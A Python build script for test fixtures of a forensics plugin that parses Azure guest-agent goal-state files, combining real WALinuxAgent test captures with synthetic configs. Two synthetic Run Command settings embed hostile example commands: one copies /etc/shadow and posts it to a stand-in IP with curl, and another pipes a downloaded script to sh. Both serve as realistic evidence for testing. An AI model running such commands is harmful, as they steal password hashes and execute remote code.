#!/usr/bin/env python3
"""Builds tests/fixtures/goalstates/ and tests/fixtures/goalstates-windows/
(and their .times.tsv manifests) for plugins/goalstate.

Real captures are copied byte for byte from WALinuxAgent's tests/data
(SAMPLES below); the synthetic documents are written here. Zips are made
with fixed timestamps and attributes so a rebuild gives the same bytes
with the same Python/zlib.

    python3 plugins/goalstate/testdata/mkfixtures.py [SAMPLES_DIR]
"""
import base64
import gzip
import os
import shutil
import sys
import zipfile
import zlib

REPO = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..", ".."))
SAMPLES = sys.argv[1] if len(sys.argv) > 1 else "/work/shared/samples/WALinuxAgent/tests/data"
LINUX = os.path.join(REPO, "tests", "fixtures", "goalstates")
WINDOWS = os.path.join(REPO, "tests", "fixtures", "goalstates-windows")

# .NET ticks of a UTC time given as (Y, M, D, h, m, s, 100ns units)
def ticks(y, mo, d, h, mi, s, frac):
    import datetime
    delta = datetime.datetime(y, mo, d, h, mi, s) - datetime.datetime(1, 1, 1)
    return (delta.days * 86400 + delta.seconds) * 10_000_000 + frac


def sample(rel):
    with open(os.path.join(SAMPLES, rel), "rb") as f:
        return f.read()


def write(root, rel, data):
    path = os.path.join(root, *rel.split("/"))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def make_zip(members, date_time):
    """members: list of (name, bytes). Returns (zip bytes, infos)."""
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=date_time)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 3
            zi.external_attr = 0o100644 << 16
            z.writestr(zi, data)
        infos = z.infolist()
    return buf.getvalue(), infos


FAKE_SIG = "Zml4dHVyZS1zaWduYXR1cmUtbm90LWEtc2VjcmV0%3D"
# A real CRP protectedSettings blob (VMAccessAgent, WALinuxAgent
# tests/data/wire/multi-config/ext_conf_with_multi_config.xml): public test data.
CIPHERTEXT = ("MIIByAYJKoZIhvcNAQcDoIIBuTCCAbUCAQAxggFpMIIBZQIBADBNMDkxNzA1BgoJkiaJk/IsZAEZFidXaW5kb3dzIEF6dXJlIENSUCBDZXJ0aWZpY2F0ZSBHZW5lcmF0b3ICEC9nmIRFUMGqQOFdBaBjrNswDQYJKoZIhvcNAQEBBQAEggEAylzH/UuK3909SCbqecUyrd+V6EqTJ7Xe7hzMtYtfVTI3TBDnDlFLLzazawgXpsmOV96II9Bk4Kpo7rvwDuZWZulYWuBWw2q8/XPIpZ+hQg2TaV5A2l9N4gBU6JQ/6axHjCsuq7CUOpK9/Yq019I9HP2SqK8Ao4lMEKLR4AGMnoc+x8aKuFvhn+ClYF/75Pz+h1kgVGvj11LMM5u9M87M6Fie6UlbpFjZmBuZaPiyhfAxQxWqsJBsZ8AaUYzy21Wh3YEC54Pqx3n5kOzMH9Q+G5SkgJQ1SBEhf0gLdzeIKX2jEwOAhrL1tVtglUPxHxK5I9NACCvxou7xRtJgvbsYATBDBgkqhkiG9w0BBwEwFAYIKoZIhvcNAwcECE8EEkK33SSegCCJOYYNsSXz9s87019rTptS0oBvlZgijlB+NQzvNpzAow==")
THUMB = "EE22B5ECAC6A83B581A7CAC1772BEBD0E016649F"

RC1_SCRIPT = b"#!/bin/sh\nid\ncat /etc/shadow > /tmp/.s\ncurl -s -X POST --data-binary @/tmp/.s http://203.0.113.7/u\n"
CSE_SCRIPT = b"#!/bin/sh\necho fixture-cse-script > /tmp/cse.txt\n"


def gz(data):
    return gzip.compress(data, mtime=0)


def ext_conf(incarnation, created_ticks, plugins, settings, status_blob, extra=""):
    """An ExtensionsConfig document in the shape WireServer sends."""
    decl = "\n".join(
        '  <Plugin name="{0}" version="{1}" location="https://umsafixture.blob.core.windows.net/{2}/{2}_manifest.xml" '
        'state="{3}" autoUpgrade="true" failoverlocation="https://umsafixture2.blob.core.windows.net/{2}/{2}_manifest.xml" '
        'runAsStartupTask="false" isJson="true" useExactVersion="true" />'.format(n, v, g, st)
        for n, v, g, st in plugins)
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            '<Extensions version="1.0.0.0" goalStateIncarnation="{inc}"><GuestAgentExtension xmlns:i="http://www.w3.org/2001/XMLSchema-instance">\n'
            '  <GAFamilies>\n    <GAFamily>\n      <Name>Prod</Name>\n      <Uris>\n'
            '        <Uri>https://umsafixture.blob.core.windows.net/568bb00f-455e-32b8-8deb-0e1bf1636254/568bb00f-455e-32b8-8deb-0e1bf1636254_manifest.xml</Uri>\n'
            '      </Uris>\n    </GAFamily>\n  </GAFamilies>\n  <Location>westeurope</Location>\n  <ServiceName>CRP</ServiceName>\n'
            '</GuestAgentExtension>\n'
            '<StatusUploadBlob statusBlobType="BlockBlob">{blob}</StatusUploadBlob>\n'
            '<Plugins>\n{decl}\n</Plugins>\n<PluginSettings>\n{settings}\n</PluginSettings>\n{extra}'
            '<InVMGoalStateMetaData inSvdSeqNo="11" createdOnTicks="{ticks}" activityId="0c7d3a52-8f1e-4b6a-9d2c-5e4f3a2b1c0d" correlationId="6e5d4c3b-2a19-4807-b6a5-948372615a0b" />\n'
            '</Extensions>\n').format(inc=incarnation, blob=status_blob, decl=decl, settings=settings, ticks=created_ticks, extra=extra).encode()


def runtime_settings(handler, version, seq, handler_settings_json):
    from xml.sax.saxutils import escape
    handler_settings_json = escape(handler_settings_json)
    return ('  <Plugin name="{0}" version="{1}">\n    <RuntimeSettings seqNo="{2}">{{\n'
            '  "runtimeSettings": [\n    {{\n      "handlerSettings": {3}\n    }}\n  ]\n}}</RuntimeSettings>\n  </Plugin>').format(
        handler, version, seq, handler_settings_json)


def build_linux(times):
    if os.path.exists(LINUX):
        shutil.rmtree(LINUX)
    wa = "var/lib/waagent"

    # 1. Agent <= 2.7: ExtensionsConfig.<N>.xml, unredacted.
    rc1 = base64.b64encode(gz(RC1_SCRIPT)).decode()
    cse = base64.b64encode(CSE_SCRIPT).decode()
    legacy = ext_conf(
        10, ticks(2021, 11, 16, 20, 21, 52, 3456789),
        [("Microsoft.CPlat.Core.RunCommandLinux", "1.0.5", "aa5b3a8e-0d4b-4f1e-9e3d-a3b8c1f0e2d4", "enabled"),
         ("Microsoft.Azure.Extensions.CustomScript", "2.1.6", "5237dd14-0aad-f051-0fad-1e33e1b63091", "enabled")],
        "\n".join([
            runtime_settings("Microsoft.CPlat.Core.RunCommandLinux", "1.0.5", 3,
                             '{"protectedSettingsCertThumbprint":"%s","protectedSettings":"%s","publicSettings":{"script":"%s","fileUris":["https://fixturestore.blob.core.windows.net/scripts/collect.sh?sv=2021-08-06&se=2021-11-17T00%%3A00%%3A00Z&sr=b&sp=r&sig=%s"]}}'
                             % (THUMB, CIPHERTEXT, rc1, FAKE_SIG)),
            runtime_settings("Microsoft.Azure.Extensions.CustomScript", "2.1.6", 1,
                             '{"publicSettings":{"script":"%s"}}' % cse),
        ]),
        "https://md-fixture.z6.blob.storage.azure.net/$system/fixture-vm.3b9e6f1c-2d4a-4e8b-9c7d-1a2b3c4d5e6f.status?sv=2018-03-28&amp;sr=b&amp;sk=system-1&amp;sig=%s&amp;se=9999-01-01T00%%3a00%%3a00Z&amp;sp=w" % FAKE_SIG)
    write(LINUX, wa + "/ExtensionsConfig.10.xml", legacy)
    times[wa + "/ExtensionsConfig.10.xml"] = "2021-11-16T20:22:03.117000000Z"

    # 1b. The next incarnation, after a tenant certificate rotation: its
    #     protectedSettings are real CMS blobs for this tree's own test key
    #     (testdata/protected, made by gen_protected.sh), which the agent
    #     left as /var/lib/waagent/<THUMB>.crt/.prv.
    prot = os.path.join(os.path.dirname(os.path.abspath(__file__)), "protected")
    def pread(name):
        with open(os.path.join(prot, name), "rb") as f:
            return f.read()
    thumb = pread("thumbprint").decode().strip()
    write(LINUX, wa + "/%s.crt" % thumb, pread("tenant.crt"))
    write(LINUX, wa + "/%s.prv" % thumb, pread("tenant.prv"))
    times[wa + "/%s.crt" % thumb] = "2021-11-17T09:14:36.512000000Z"
    times[wa + "/%s.prv" % thumb] = "2021-11-17T09:14:36.514000000Z"
    legacy11 = ext_conf(
        11, ticks(2021, 11, 17, 9, 14, 27, 6543210),
        [("Microsoft.CPlat.Core.RunCommandLinux", "1.0.5", "aa5b3a8e-0d4b-4f1e-9e3d-a3b8c1f0e2d4", "enabled"),
         ("Microsoft.Azure.Extensions.CustomScript", "2.1.6", "5237dd14-0aad-f051-0fad-1e33e1b63091", "enabled")],
        "\n".join([
            runtime_settings("Microsoft.CPlat.Core.RunCommandLinux", "1.0.5", 4,
                             '{"protectedSettingsCertThumbprint":"%s","protectedSettings":"%s","publicSettings":{}}'
                             % (thumb, pread("rc1-4.b64").decode().strip())),
            runtime_settings("Microsoft.Azure.Extensions.CustomScript", "2.1.6", 2,
                             '{"protectedSettingsCertThumbprint":"%s","protectedSettings":"%s","publicSettings":{"timestamp":1637140467}}'
                             % (thumb, pread("cse-2.b64").decode().strip())),
        ]),
        "https://md-fixture.z6.blob.storage.azure.net/$system/fixture-vm.3b9e6f1c-2d4a-4e8b-9c7d-1a2b3c4d5e6f.status?sv=2018-03-28&amp;sr=b&amp;sk=system-1&amp;sig=%s&amp;se=9999-01-01T00%%3a00%%3a00Z&amp;sp=w" % FAKE_SIG)
    write(LINUX, wa + "/ExtensionsConfig.11.xml", legacy11)
    times[wa + "/ExtensionsConfig.11.xml"] = "2021-11-17T09:14:38.204000000Z"

    # 2. Zipped history item holding the real wire/ext_conf.xml. (Agents
    #    <= 2.7 named it 2021-11-16T13:23:05.512308_incarnation_9.zip with a
    #    member ExtensionsConfig.9.xml; a ':' is not allowed in Go module
    #    zips nor on Windows checkouts, so that form is built by the Go tests
    #    in a temporary copy.)
    z, _ = make_zip([("ExtensionsConfig.xml", sample("wire/ext_conf.xml"))], (2021, 11, 16, 13, 23, 4))
    name = wa + "/history/2021-11-16T13-23-05__9.zip"
    write(LINUX, name, z)
    times[name] = "2021-11-16T20:22:02.904000000Z"

    # 3. Zipped history item (agent >= 2.8 naming) holding the real
    #    hostgaplugin/vm_settings.json as VmSettings.json.
    z, _ = make_zip([("VmSettings.json", sample("hostgaplugin/vm_settings.json"))], (2021, 11, 16, 13, 23, 6))
    name = wa + "/history/2021-11-16T13-23-06__9-1737442375466306613.zip"
    write(LINUX, name, z)
    times[name] = "2021-11-17T13:23:10.000000000Z"

    # 4. History folder from the real tenant_certificate_rotation capture.
    d = wa + "/history/2023-08-04T09-43-27__3"
    write(LINUX, d + "/ExtensionsConfig.xml", sample("tenant_certificate_rotation/ExtensionsConfig-incarnation-3.xml"))
    times[d + "/ExtensionsConfig.xml"] = "2023-08-04T09:43:27.612000000Z"
    times[d] = "2023-08-04T09:43:27.612000000Z"

    # 5. A zip that ends early: ExtensionsConfig.xml complete, VmSettings.json cut.
    rc2_pub = '{"source":{"script":"curl -fsSL http://198.51.100.23/x.sh | sh"},"runAsUser":"azureuser","outputBlobUri":"https://fixturestore.blob.core.windows.net/out/rc-out.txt?sv=2021-08-06&sr=b&sp=rw&sig=%s"}' % FAKE_SIG
    ec5 = ext_conf(
        5, ticks(2024, 5, 2, 10, 10, 58, 1234567),
        [("Microsoft.CPlat.Core.RunCommandHandlerLinux", "1.3.9", "f4086d41-69f9-3103-78e0-8a2c7e789d0f", "enabled")],
        runtime_settings("Microsoft.CPlat.Core.RunCommandHandlerLinux", "1.3.9", 2,
                         '{"protectedSettingsCertThumbprint":"%s","protectedSettings":"***REDACTED***","publicSettings":%s}' % (THUMB, rc2_pub)),
        "https://md-fixture.z6.blob.storage.azure.net/$system/fixture-vm.3b9e6f1c-2d4a-4e8b-9c7d-1a2b3c4d5e6f.status?***REDACTED***")
    long_cmd = "sh -c 'for i in $(seq 1 200); do echo fixture-line-$i >> /tmp/cse-long.txt; done; " + " ".join("step%03d" % i for i in range(400)) + "'"
    import json
    vs5 = json.dumps({
        "hostGAPluginVersion": "1.0.8.159",
        "activityId": "0c7d3a52-8f1e-4b6a-9d2c-5e4f3a2b1c0d",
        "correlationId": "6e5d4c3b-2a19-4807-b6a5-948372615a0b",
        "inSvdSeqNo": 12,
        "extensionsLastModifiedTickCount": ticks(2024, 5, 2, 10, 11, 1, 7654321),
        "extensionGoalStatesSource": "FastTrack",
        "extensionGoalStates": [
            {"name": "Microsoft.CPlat.Core.RunCommandHandlerLinux", "version": "1.3.9", "state": "enabled",
             "settingsSeqNo": 2, "isMultiConfig": False,
             "settings": [{"protectedSettingsCertThumbprint": THUMB, "protectedSettings": "***REDACTED***", "publicSettings": rc2_pub}]},
            {"name": "Microsoft.Azure.Extensions.CustomScript", "version": "2.1.10", "state": "enabled",
             "settingsSeqNo": 7, "isMultiConfig": False,
             "settings": [{"publicSettings": json.dumps({"commandToExecute": long_cmd})}]},
        ],
    }, indent=4).encode()
    gs5 = sample("hibernate/goal_state_1/GoalState.xml").replace(b"<Incarnation>1</Incarnation>", b"<Incarnation>5</Incarnation>")
    z, infos = make_zip([("GoalState.xml", gs5), ("ExtensionsConfig.xml", ec5), ("VmSettings.json", vs5)], (2024, 5, 2, 10, 11, 9))
    last = infos[-1]
    data_start = last.header_offset + 30 + len(last.filename.encode())
    # Cut inside VmSettings.json's compressed data, after the first
    # extensionGoalStates entry and before the end of the second.
    end_first = vs5.index(b'"name": "Microsoft.Azure.Extensions.CustomScript"')
    cut = None
    for n in range(1, last.compress_size):
        d = zlib.decompressobj(-15).decompress(z[data_start:data_start + n])
        if len(d) > end_first + 200:
            cut = data_start + n
            break
    assert cut is not None and len(zlib.decompressobj(-15).decompress(z[data_start:cut])) < len(vs5) - 100
    name = wa + "/history/2024-05-02T10-11-09__5-4012345678901234567.zip"
    write(LINUX, name, z[:cut])
    times[name] = "2024-05-02T11:30:00.350000000Z"

    # 6. A goal state with malformed XML (a RuntimeSettings body that is not
    #    JSON, then a mismatched end tag).
    bad = ext_conf(
        6, ticks(2024, 5, 2, 11, 29, 51, 0),
        [("Microsoft.CPlat.Core.RunCommandHandlerLinux", "1.3.9", "f4086d41-69f9-3103-78e0-8a2c7e789d0f", "enabled"),
         ("Microsoft.Azure.Extensions.CustomScript", "2.1.10", "5237dd14-0aad-f051-0fad-1e33e1b63091", "enabled")],
        '  <Plugin name="Microsoft.CPlat.Core.RunCommandHandlerLinux" version="1.3.9">\n'
        '    <RuntimeSettings seqNo="3">{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"source":{"script":"whoami"}</RuntimeSettings>\n'
        '  </Plugin>\n'
        '  <Plugin name="Microsoft.Azure.Extensions.CustomScript" version="2.1.10">\n'
        '    <RuntimeSettings seqNo="8">{"runtimeSettings":[{"handlerSettings":{"publicSettings":{"commandToExecute":"echo never-read"}}}]}</RuntimeSetting>\n'
        '  </Plugin>',
        "https://md-fixture.z6.blob.storage.azure.net/$system/fixture-vm.3b9e6f1c-2d4a-4e8b-9c7d-1a2b3c4d5e6f.status?***REDACTED***")
    d = wa + "/history/2024-05-02T11-30-00__6"
    write(LINUX, d + "/ExtensionsConfig.xml", bad)
    times[d + "/ExtensionsConfig.xml"] = "2024-05-02T11:30:00.212000000Z"
    times[d] = "2024-05-02T11:30:00.212000000Z"

    # 7. History folder from the real hibernate/goal_state_1 capture
    #    (FastTrack: incarnation 1 + vmSettings eTag).
    d = wa + "/history/2025-06-11T21-44-41__1-7390268434121519467"
    for f in ["Certificates.json", "ExtensionsConfig.xml", "GoalState.xml", "HostingEnvironmentConfig.xml", "VmSettings.json"]:
        write(LINUX, d + "/" + f, sample("hibernate/goal_state_1/" + f))
        times[d + "/" + f] = "2025-06-11T21:44:41.805000000Z"
    times[d] = "2025-06-11T21:44:41.806000000Z"

    times[wa + "/history"] = "2025-06-11T21:44:41.806000000Z"
    times[wa] = "2025-06-11T21:44:42.000000000Z"
    times["var/lib"] = "2025-01-10T08:00:00.000000000Z"
    times["var"] = "2025-01-10T08:00:00.000000000Z"

    write(LINUX, "README.md", LINUX_README.encode())
    times["README.md"] = "2026-11-22T05:00:00.000000000Z"


def build_windows(times):
    if os.path.exists(WINDOWS):
        shutil.rmtree(WINDOWS)
    # Config\*.xml: the real multi-config ExtensionsConfig, and a document of
    # another kind (skipped quietly).
    write(WINDOWS, "WindowsAzure/Config/ExtensionsConfig.4.xml", sample("wire/multi-config/ext_conf_with_multi_config.xml"))
    times["WindowsAzure/Config/ExtensionsConfig.4.xml"] = "2020-11-20T23:49:21.400000000Z"
    other = "WindowsAzure/Config/8cd0ae53-1baa-4f00-9356-a4e1a34f004c.0.8cd0ae53-1baa-4f00-9356-a4e1a34f004c.0._test-vm.1.xml"
    write(WINDOWS, other, sample("hibernate/goal_state_1/HostingEnvironmentConfig.xml"))
    times[other] = "2020-11-20T23:49:21.300000000Z"
    times["WindowsAzure/Config"] = "2020-11-20T23:49:21.400000000Z"

    # CollectGuestLogsTemp\<guid>.zip with Config\WireServerRoleExtensionsConfig_<guid>._<VM>.xml
    ec = ext_conf(
        7, ticks(2024, 3, 14, 9, 26, 53, 5897932),
        [("Microsoft.CPlat.Core.RunCommandWindows", "1.1.17", "0d7b8a32-7f5c-4a1e-9b0d-6c3e2f1a4b5d", "enabled"),
         ("Microsoft.Compute.CustomScriptExtension", "1.10.15", "bfd5c281-a7dc-4e4b-8438-1eb0b47e3aaf", "enabled")],
        "\n".join([
            runtime_settings("Microsoft.CPlat.Core.RunCommandWindows", "1.1.17", 2,
                             '{"protectedSettingsCertThumbprint":"%s","protectedSettings":"%s","publicSettings":{"script":["whoami","Get-Process"]}}' % (THUMB, CIPHERTEXT)),
            runtime_settings("Microsoft.Compute.CustomScriptExtension", "1.10.15", 0,
                             '{"publicSettings":{"fileUris":["https://fixturestore.blob.core.windows.net/scripts/setup.ps1?sv=2021-08-06&sr=b&sp=r&sig=%s"],"commandToExecute":"powershell -ExecutionPolicy Unrestricted -File setup.ps1"}}' % FAKE_SIG),
        ]),
        "https://md-fixture.z6.blob.storage.azure.net/$system/WINVM01.7a3e1c52-9d4b-4f0e-b8a1-2c6d5e4f3a21.status?sv=2018-03-28&amp;sr=b&amp;sk=system-1&amp;sig=%s&amp;se=9999-01-01T00%%3a00%%3a00Z&amp;sp=w" % FAKE_SIG)
    log = (b"[00000006] 2024-03-14T09:27:01.123Z [INFO]  Plugin enabled (name: Microsoft.CPlat.Core.RunCommandWindows, version: 1.1.17).\r\n")
    z, _ = make_zip([
        ("Config\\WireServerRoleExtensionsConfig_7a3e1c52-9d4b-4f0e-b8a1-2c6d5e4f3a21._WINVM01.xml", ec),
        ("Logs\\WaAppAgent.log", log),
    ], (2024, 3, 14, 9, 40, 12))
    name = "WindowsAzure/CollectGuestLogsTemp/4b1f0c9e-2a7d-4e3b-8c5f-9d6a1b2c3e4f.zip"
    write(WINDOWS, name, z)
    times[name] = "2024-03-14T09:40:13.000000000Z"
    times["WindowsAzure/CollectGuestLogsTemp"] = "2024-03-14T09:40:13.000000000Z"
    times["WindowsAzure"] = "2024-03-14T09:40:13.000000000Z"
    write(WINDOWS, "README.md", WINDOWS_README.encode())
    times["README.md"] = "2026-11-22T05:00:00.000000000Z"


def write_times(path, times, header):
    with open(path, "w") as f:
        f.write(header)
        for k in sorted(times):
            f.write("%s\t%s\n" % (k, times[k]))


LINUX_README = """# goalstates fixture (plugins/goalstate, azure_goal_states)

A Linux evidence root: /var/lib/waagent as the Azure Linux agent leaves it.
Built by plugins/goalstate/testdata/mkfixtures.py. It mixes agent
generations on purpose (a real VM keeps either the <=2.7 files or the
>=2.8 history, rarely both).

Real captures, bytes unmodified (WALinuxAgent tests/data, Apache-2.0):
- history/2025-06-11T21-44-41__1-7390268434121519467/*  <- hibernate/goal_state_1/*
  (folder name: the agent's strftime of a time just after the vmSettings
  extensionsLastModifiedTickCount; the eTag is made up, digits as HostGAPlugin sends)
- history/2023-08-04T09-43-27__3/ExtensionsConfig.xml  <- tenant_certificate_rotation/ExtensionsConfig-incarnation-3.xml
  (Certificates-incarnation-3.xml is not copied: agents >= 2.8 keep Certificates.json, not the XML)
- history/2021-11-16T13-23-05__9.zip member ExtensionsConfig.xml  <- wire/ext_conf.xml
  (agents <= 2.7 named it 2021-11-16T13:23:05.512308_incarnation_9.zip, member
  ExtensionsConfig.9.xml; ':' is invalid in Go module zips and on Windows,
  so the Go tests build that form in a temporary copy)
- history/2021-11-16T13-23-06__9-1737442375466306613.zip member VmSettings.json  <- hostgaplugin/vm_settings.json
  (same activityId as ext_conf.xml: the same mock goal state)

Synthetic (shape of the real ones):
- ExtensionsConfig.10.xml: agent <= 2.7 unredacted file; Run Command v1 with
  protectedSettings ciphertext (a public CRP test blob), public script
  (base64 of gzip) and a fileUris SAS URL (fake sig); CSE with a base64 script.
- ExtensionsConfig.11.xml: the next incarnation (2021-11-17), after a tenant
  certificate rotation: Run Command v1 seq 4 with a protected script
  (des-ede3-cbc) and Custom Script 2.1.6 seq 2 with a protected
  commandToExecute, fileUris SAS URL (fake sig) and storageAccountKey (fake)
  (aes-256-cbc). The blobs are real CMS for this tree's own test key:
  <THUMB>.crt / <THUMB>.prv (PEM certificate / PKCS#8 key, as the agent
  splits Certificates.pem), thumbprint in
  plugins/goalstate/testdata/protected/thumbprint. Key, blobs and plaintexts
  (protected/*.json) are made by plugins/goalstate/testdata/gen_protected.sh
  (openssl, same approach as tools/crypto/gen.sh). Test key only. The key of
  ExtensionsConfig.10.xml's blob (EE22B5EC...) is not on the evidence (it is
  not public): decrypting it gives a no-key error.
- history/2024-05-02T10-11-09__5-4012345678901234567.zip: ends early, inside
  its last member (VmSettings.json, second extensionGoalStates entry);
  GoalState.xml and ExtensionsConfig.xml (Run Command v2) are complete.
- history/2024-05-02T11-30-00__6/ExtensionsConfig.xml: malformed XML (a
  RuntimeSettings body that is not JSON, then a mismatched end tag).

No secret is real: every sig= value is the base64 of "fixture-signature-not-a-secret".
File times: tests/fixtures/goalstates.times.tsv.
"""

WINDOWS_README = """# goalstates-windows fixture (plugins/goalstate, azure_goal_states)

A Windows evidence root (the C: drive), Windows-style casing. Built by
plugins/goalstate/testdata/mkfixtures.py.

- WindowsAzure/Config/ExtensionsConfig.4.xml: real capture, bytes unmodified:
  WALinuxAgent tests/data/wire/multi-config/ext_conf_with_multi_config.xml
  (Windows handlers, multi-config Run Command v2). The file name is
  [inferred]: the Windows agent's own names for its Config documents are not
  public; the plugin reads every Config\\*.xml and keeps <Extensions> ones.
- WindowsAzure/Config/8cd0ae53-...._test-vm.1.xml: another kind of goal-state
  document (WALinuxAgent hibernate/goal_state_1/HostingEnvironmentConfig.xml),
  skipped without a log line.
- WindowsAzure/CollectGuestLogsTemp/4b1f0c9e-2a7d-4e3b-8c5f-9d6a1b2c3e4f.zip:
  synthetic CollectGuestLogs.exe output; members use backslashes:
  Config\\WireServerRoleExtensionsConfig_7a3e1c52-9d4b-4f0e-b8a1-2c6d5e4f3a21._WINVM01.xml
  (unredacted: RunCommandWindows {"script":["whoami","Get-Process"]} with
  protectedSettings ciphertext, CustomScriptExtension commandToExecute and a
  fileUris SAS URL with a fake sig) and Logs\\WaAppAgent.log (not read).

File times: tests/fixtures/goalstates-windows.times.tsv.
"""


if __name__ == "__main__":
    lt, wt = {}, {}
    build_linux(lt)
    build_windows(wt)
    hdr = "# mtimes for tests/fixtures/%s/ (built by plugins/goalstate/testdata/mkfixtures.py)\n"
    write_times(os.path.join(REPO, "tests", "fixtures", "goalstates.times.tsv"), lt, hdr % "goalstates")
    write_times(os.path.join(REPO, "tests", "fixtures", "goalstates-windows.times.tsv"), wt, hdr % "goalstates-windows")
